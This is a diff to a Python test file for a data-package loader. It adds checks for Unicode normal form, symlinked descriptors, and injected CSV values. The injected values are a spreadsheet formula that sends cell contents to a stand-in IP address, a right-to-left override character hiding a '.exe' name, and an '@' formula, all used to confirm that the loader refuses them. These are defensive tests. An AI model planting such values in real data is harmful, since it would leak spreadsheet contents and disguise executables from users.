@@ -6,6 +6,7 @@ and checks what a user sees: one line naming the file, a non-zero exit, nothing 
 from __future__ import annotations
 
 import json
+import re
 import os
 import shutil
 import sqlite3
@@ -368,6 +369,7 @@ CRAFTED = {
     "a resource that is a string": (descriptor_edit(lambda d: d["resources"].append("mediators")), "must be a JSON object"),
     "a non-UTF-8 CITATION.cff": (write("CITATION.cff", "title: caf\u00e9".encode("latin-1")), "CITATION.cff is not UTF-8"),
     "a non-UTF-8 source text": (write("sources/fmpm.txt", "caf\u00e9".encode("latin-1")), "sources/fmpm.txt is not UTF-8"),
+    "a title in Unicode NFD": (descriptor_edit(lambda d: d.update(title="Cafe\u0301 data")), "is not in Unicode normal form NFC"),
     "a CSV dialect with another delimiter": (descriptor_edit(lambda d: d["resources"][0].update(dialect={"delimiter": ";"})),
                                              "'dialect' 'delimiter' must be ','"),
     "a Table Schema that reads NA as missing": (schema_edit("mediators", lambda s: s.update(missingValues=["", "NA"])),
@@ -521,3 +523,29 @@ def test_a_link_or_a_loop_of_links_inside_a_package_is_refused_in_one_line(packa
 def test_a_path_too_long_for_the_file_system_is_a_package_not_found_error(tmp_path):
     with pytest.raises(pim.PackageNotFoundError, match="cannot be looked up"):
         pim.load("mediators", tmp_path / ("a" * 300))
+
+
+def test_a_descriptor_that_is_a_link_to_another_package_is_refused_in_either_path_form(package_copy, tmp_path):
+    folder = tmp_path / "decoy"
+    folder.mkdir()
+    (folder / "datapackage.json").symlink_to(package_copy / "datapackage.json")
+    for given in (folder, folder / "datapackage.json"):
+        with pytest.raises(pim.PackageNotFoundError, match="a symbolic link; a package holds its datapackage.json"):
+            pim.load("mediators", given)
+
+
+@pytest.mark.parametrize("column, value, reason", [
+    ("description", '=HYPERLINK("http://203.0.113.9/?"&A1,"click")', "text begins with =, which a spreadsheet runs as a formula"),
+    ("description", "bidi \u202egnp.exe", "text holds U+202E"),
+    ("synonyms", "TNF|@SUM(A1)", "an item begins with @, which a spreadsheet runs as a formula"),
+])
+def test_load_refuses_a_formula_or_invisible_character_even_with_refreshed_hashes(package_copy, column, value, reason):
+    """A package whose hashes were refreshed after the edit passes the hash check; the loader still
+    hands no formula or hidden character to a program that would write it out."""
+    with edit_rows(package_copy, "mediators") as mediators:
+        mediators.change("tnf", column, lambda v: value)
+    refresh_hash(package_copy, "mediators")
+    with pytest.raises(pim.DataError, match=f"mediators: row tnf: column {column}: value .*: {re.escape(reason)}"):
+        pim.load("mediators", package_copy)
+    shown = run_cli("show", "mediators", "--path", package_copy)
+    assert shown.returncode == 1 and "Traceback" not in shown.stderr and reason in shown.stderr
